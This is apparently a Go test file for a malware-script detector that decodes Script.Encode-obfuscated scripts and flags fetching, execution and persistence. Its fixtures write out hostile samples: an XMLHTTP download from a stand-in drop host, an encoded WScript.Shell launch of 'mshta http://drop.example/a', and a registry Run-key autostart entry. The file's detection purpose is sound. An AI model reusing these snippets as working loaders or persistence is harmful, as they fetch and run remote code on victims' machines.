package script

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"sluice/inspect/child/childtest"
)

// scramble is the encoder's side: what Unscramble undoes.
func scramble(s string) string {
	subs := [...]string{sub0, sub1, sub2}
	var out strings.Builder
	for i := range len(s) {
		c := s[i]
		switch c {
		case '\n':
			out.WriteString("@&")
		case '<':
			out.WriteString("@!")
		case '>':
			out.WriteString("@*")
		case '@':
			out.WriteString("@$")
		default:
			at := strings.IndexByte(subs[turns[i%len(turns)]-'0'], c)
			if at == 0 {
				out.WriteByte('\t')
			} else {
				out.WriteByte(byte(at + 31))
			}
		}
	}
	return "#@~^AAAAAA==" + out.String() + "AAAAAA==^#~@"
}

func TestUnscramble(t *testing.T) {
	const plain = "var s = new ActiveXObject(\"WScript.Shell\");\nif (1 < 2 && 3 > 2) { s.Run(\"calc@home\"); }"
	if got, ok := Unscramble(scramble(plain)); got != plain || !ok {
		t.Errorf("%q", got)
	}
	// As the encoder writes this line at the beginning of a script.
	var out strings.Builder
	if substitute(&out, `\ko$K6,JCmV^GJ`); out.String() != `MsgBox "Hallo"` {
		t.Errorf("%q", out.String())
	}
	// Each substitution is one: no two characters become the same.
	for _, s := range []string{sub0, sub1, sub2} {
		b := []byte(s)
		slices.Sort(b)
		if len(slices.Compact(b)) != 97 {
			t.Error("a substitution loses characters")
		}
	}
}

func TestDecoder(t *testing.T) {
	for _, c := range []struct{ name, typ, body, want string }{
		{"a script of an admin", "powershell", "Get-ChildItem | Where-Object { $_.Length -gt 1MB } | Sort-Object Length\r\n", ""},
		{"a script that fetches", "javascript", `var x = new ActiveXObject("MSXML2.XMLHTTP"); x.open("GET", "http://drop.example/a", false);`, "CODE_FETCHES xmlhttp; http://drop.example/a"},
		{"encoded", "jse", scramble(`new ActiveXObject("WScript.Shell").Run("mshta http://drop.example/a")`), "CODE_ENCODED Script.Encode; CODE_RUNS wscript.shell; CODE_RUNS mshta; http://drop.example/a"},
		{"sixteen bits", "vbscript", "\xFF\xFEm\x00s\x00h\x00t\x00a\x00", "CODE_RUNS mshta"},
		{"a batch file", "batch", "@echo off\r\ncopy report.txt backup\\\r\npause\r\n", ""},
		{"registry", "reg", "Windows Registry Editor Version 5.00\r\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n\"x\"=\"a.exe\"\r\n", `CODE_PERSISTS currentversion\run`},
	} {
		r := childtest.One(t, Decoder{}, "a."+c.typ, Decoder{}.Types()[0], []byte(c.body))
		var got []string
		for _, f := range r.Facts {
			got = append(got, fmt.Sprintf("%s %s", f.Kind, f.Detail))
		}
		for _, l := range r.Links {
			got = append(got, l.URL)
		}
		if s := strings.Join(got, "; "); s != c.want {
			t.Errorf("%s: %s, want %s", c.name, s, c.want)
		}
	}
}

func FuzzUnscramble(f *testing.F) {
	f.Add(scramble("WScript.Echo 1"))
	f.Fuzz(func(t *testing.T, s string) {
		if got, _ := Unscramble(s); len(got) > len(s) {
			t.Fatal("longer than it was")
		}
	})
}
